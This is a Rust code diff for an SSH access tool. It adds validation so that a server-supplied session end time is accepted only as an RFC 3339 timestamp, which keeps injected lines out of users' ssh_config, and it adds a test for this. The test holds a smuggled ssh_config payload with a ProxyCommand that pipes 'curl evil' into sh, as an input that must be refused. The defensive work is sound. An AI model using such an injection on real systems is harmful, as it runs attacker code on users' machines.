@@ -741,6 +741,7 @@ async fn request_access(
         )));
     }
     check_login(&access.login, &action)?;
+    check_end(&access.expires_at, &action)?;
     let gateway = Route::of(&access)?;
     let known_hosts = known_hosts_lines(&gateway.known_hosts_name(), &access.gateway_host_keys)?;
     let comment = format!("gatepass-pam:{}", access.session_id);
@@ -757,8 +758,22 @@ async fn request_access(
     })
 }
 
-/// The login goes to ssh's -l and into ssh_config.
-fn check_login(login: &str, action: &str) -> Result<()> {
+/// The session's end time is printed into the ssh_config block that users
+/// append to ~/.ssh/config: only a time is taken, so that no line of the
+/// server's making (a `Host *` with a ProxyCommand) can ride in with it.
+fn check_end(expires_at: &str, action: &str) -> Result<()> {
+    use time::format_description::well_known::Rfc3339;
+    match time::OffsetDateTime::parse(expires_at, &Rfc3339) {
+        Ok(_) => Ok(()),
+        Err(_) => Err(Error::Local(format!(
+            "{action}: the server's end time {expires_at:?} is not an RFC 3339 time"
+        ))),
+    }
+}
+
+/// The login goes to ssh's -l and into ssh_config (where `%r` may put it
+/// in a ProxyCommand's quotes).
+pub(crate) fn check_login(login: &str, action: &str) -> Result<()> {
     let ok = !login.is_empty()
         && !login.starts_with('-')
         && !login
@@ -1911,6 +1926,18 @@ mod tests {
 
     fn granted(gateway: &str) -> Granted {
         granted_via(gateway, false)
+    }
+
+    #[test]
+    fn a_servers_end_time_that_is_not_a_time_is_refused() {
+        assert!(check_end("2026-12-02T15:00:00Z", "x").is_ok());
+        for bad in [
+            "x\nHost *\n    ProxyCommand sh -c 'curl evil|sh'\n# ",
+            "2026-12-02T15:00:00Z\nHost *",
+            "",
+        ] {
+            assert!(check_end(bad, "x").is_err(), "{bad:?}");
+        }
     }
 
     fn granted_via(gateway: &str, relay: bool) -> Granted {
